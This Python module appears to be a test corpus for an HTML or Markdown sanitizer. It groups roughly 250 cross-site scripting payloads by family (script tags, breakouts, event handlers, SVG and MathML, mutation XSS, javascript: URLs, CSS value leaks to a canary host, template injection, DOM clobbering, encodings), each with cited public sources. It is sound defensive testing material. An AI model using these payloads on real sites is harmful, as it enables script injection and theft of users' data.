"""Attempts to run a script in a reader's browser, by family. Each calls `alert` or asks the canary host for something.

They are written anew after the families of public collections, which each family names: what those list differs in tags, events
and encodings more than in kind.
"""

from collections.abc import Mapping

CANARY = "canary.invalid"
"""The host that must never be asked."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//canary.invalid/x.js></script>",
    "<script/x>alert(1)</script\t>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>/*<!--*/alert(1)//--></script>",
    "<script type=module>alert(1)</script>",
    "<script type=text/vbscript>alert(1)</script><script>alert(1)</script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<script>alert`1`</script>",
    "<script>\\u0061lert(1)</script>",
)
"""OWASP, XSS Filter Evasion Cheat Sheet: script elements, spelt as filters do not expect them."""

BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)',
    "x onmouseover=alert(1) y=",
    '";alert(1);//',
    "';alert(1);//",
    "\\';alert(1);//",
    "</mark><img src=x onerror=alert(1)><mark>",
)
"""PortSwigger, Cross-site scripting contexts: out of the element, attribute, comment or string that a value stands in."""

EVENTS = (
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<img src=x oNeRrOr=&#x61lert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<a href=# autofocus onfocus=alert(1) tabindex=1>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=//canary.invalid/p.png></video>",
    "<object onerror=alert(1) data=x></object>",
    "<p onmouseover=alert(1) style=position:fixed;inset:0>x</p>",
    "<p contenteditable onblur=alert(1) onfocus=alert(1) autofocus>x</p>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<p style=transition:opacity\t1s;opacity:0 ontransitionrun=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<p onbeforematch=alert(1) hidden=until-found>x</p>",
    "<button popovertarget=x onclick=alert(1)>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
    "<xss id=x tabindex=1 autofocus onfocus=alert(1)></xss>",
)
"""PortSwigger, Cross-site scripting cheat sheet: events that need nobody, and some that need a hand."""

FRAMES = (
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src=//canary.invalid/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//canary.invalid/x.swf>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "<base href=//canary.invalid/>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<link rel=preload as=script href=//canary.invalid/x.js>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<portal src=//canary.invalid/></portal>",
)
"""html5sec.org, HTML5 Security Cheatsheet: elements that bring a document, an address or a policy of their own."""

FOREIGN = (
    "<svg onload=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href='data:text/javascript,alert(1)' /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><set onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' /></svg>",
    "<svg><image href=//canary.invalid/x.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import '//canary.invalid/x.css';</style></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
)
"""html5sec.org and PortSwigger: SVG and MathML, which have scripts, events and addresses under other names."""

MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<title><p id='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p id='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p id='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p id='</noembed><img src=x onerror=alert(1)>'>",
    "<template><p id='</template><img src=x onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<p id='--><img src=x onerror=alert(1)>'><!--</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<!ENTITY x '<img src=x onerror=alert(1)>'>&x;",
    "<a href='x' title='&quot; onmouseover=&quot;alert(1)'>y</a>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<table><td><a href=x title='<table><img src=x onerror=alert(1)>'></table>",
)
"""Heiderich et al., mXSS Attacks, CCS 2013; Securitum's and others' mutations against DOMPurify; bleach's advisories
CVE-2020-6802, CVE-2020-6816 and CVE-2021-23980: harmless when it is cleaned, different when it is read again."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;ava&#10;script:alert(1)",
    "javascript://canary.invalid/%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//canary.invalid/x.png",
    "\\\\canary.invalid\\x.png",
    "https://canary.invalid/x.png",
    "blob:https://canary.invalid/x",
    "view-source:javascript:alert(1)",
    "http://javascript:alert(1)@canary.invalid/",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=# ping=//canary.invalid/>x</a>",
    "<a href=javascript:alert(1) target=_blank>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src=//canary.invalid/x.png>",
    "<img srcset='//canary.invalid/x.png 1x'>",
    "<picture><source srcset=//canary.invalid/x.png><img src=y></picture>",
    "<area shape=default href=javascript:alert(1)>",
    "<table background=//canary.invalid/x.png><tr><td background=javascript:alert(1)>x</table>",
    "<q cite=javascript:alert(1)>x</q>",
)
"""OWASP: addresses that run, or that tell another host; bare for the fields that hold an address, and in elements."""

STYLES = (
    "<style>@import '//canary.invalid/x.css';</style>",
    "<style>*{background:url(//canary.invalid/x.png)}</style>",
    "<p style=background:url(//canary.invalid/x.png)>x</p>",
    "<p style='x:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//canary.invalid/x.xml#x)'>x</p>",
    "<p style='behavior:url(//canary.invalid/x.htc)'>x</p>",
    "<style>input[name=q][value^=a]{background:url(//canary.invalid/a)}</style>",
    "<font face='x' style=position:fixed;inset:0>x</font>",
)
"""html5sec.org: style sheets, which ask other hosts and cover the page."""

MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](x "t\\" onmouseover=alert(1) \\"")',
    "[x](x' onmouseover='alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,%3Cscript%3Ealert(1)%3C/script%3E '\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    "<https://example.org/?<script>alert(1)</script>>",
    "<mailto:x@example.org?<img src=x onerror=alert(1)>>",
    "![x](x){onerror=alert(1)}",
    "![x](javascript:alert(1))",
    "![x](//canary.invalid/x.png)",
    '![x"onerror="alert(1)](x)',
    "![x](x 'y\" onerror=\"alert(1)')",
    "[![x](x){onerror=alert(1)}](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "~~~ {onmouseover=alert(1)}\nx\n~~~",
    "text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    '*[x]: " onmouseover=alert(1) x="\n\nx',
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| --- | --- |\n| <img src=x onerror=alert(1)> | x |",
    "x\n: <svg/onload=alert(1)>",
    '<p markdown="1">[x](javascript:alert(1))<script>alert(1)</script></p>',
    "\\<script>alert(1)\\</script>",
    "<scr\\ipt>alert(1)</script>",
)
"""cujanovic/Markdown-XSS-Payloads: what Markdown makes markup of, and what stands inside of it."""

KRAMDOWN = (
    "x\n{: onmouseover='alert(1)' style='background:url(//canary.invalid/x)'}",
    "[x](y){:onclick=alert(1) href=javascript:alert(1)}",
    "{: onload=alert(1)}\n# x",
    "# x {#y onmouseover=alert(1)}",
    "{:z: onmouseover='alert(1)'}\n\nx\n{:z}",
    "{::nomarkdown}<script>alert(1)</script>{:/}",
    "{::options parse_block_html='true' /}<script>alert(1)</script>",
    "$$<script>alert(1)</script>$$",
)
"""kramdown, Syntax: attribute lists and extensions, as Jekyll's authors may write them."""

TEMPLATES = (
    "{{ constructor.constructor('alert(1)')() }}",
    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{% include //canary.invalid/x %}",
    "{{ '<script>alert(1)</script>' | safe }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "<p ng-app ng-csp>{{$on.constructor('alert(1)')()}}</p>",
    "<p v-html=\"'<img src=x onerror=alert(1)>'\">x</p>",
    "%(alert)s {0.__class__}",
)
"""PortSwigger, Client-side template injection and Server-side template injection: braces of every kind."""

CLOBBERING = (
    "<a id=q><a id=q name=value href=javascript:alert(1)>x</a>",
    "<form id=search action=javascript:alert(1)><input name=action></form>",
    "<img name=getElementById><img name=querySelector><img name=addEventListener>",
    "<a id=location href=javascript:alert(1)>x</a>",
    "<p id=shortcuts>x</p><p id=suggestions>x</p><p id=match-1>x</p>",
    "<iframe name=document srcdoc='<a id=body>x</a>'></iframe>",
    "<a id=__proto__ name=x>x</a><a id=constructor>x</a>",
)
"""PortSwigger, DOM clobbering; domclob.xyz: names that scripts then find in place of their own."""

ENCODINGS = (
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    "\x1b<script>alert(1)</script>\x00",
    "\u202e<script>alert(1)</script>\u202c",
    "<script\u00a0>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\ue011script\ue012alert(1)\ue011/script\ue012",
    "ſcript <ſcript>alert(1)</ſcript>",
    "\ufeff<script>alert(1)</script>",
)
"""OWASP: the same, encoded once, twice, or in characters that become others when they are folded, stripped or decoded."""

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "breakouts": BREAKOUTS,
    "events": EVENTS,
    "frames": FRAMES,
    "foreign": FOREIGN,
    "mutations": MUTATIONS,
    "addresses": ADDRESSES,
    "styles": STYLES,
    "markdown": MARKDOWN,
    "kramdown": KRAMDOWN,
    "templates": TEMPLATES,
    "clobbering": CLOBBERING,
    "encodings": ENCODINGS,
}
PAYLOADS = tuple(payload for payloads in FAMILIES.values() for payload in payloads)
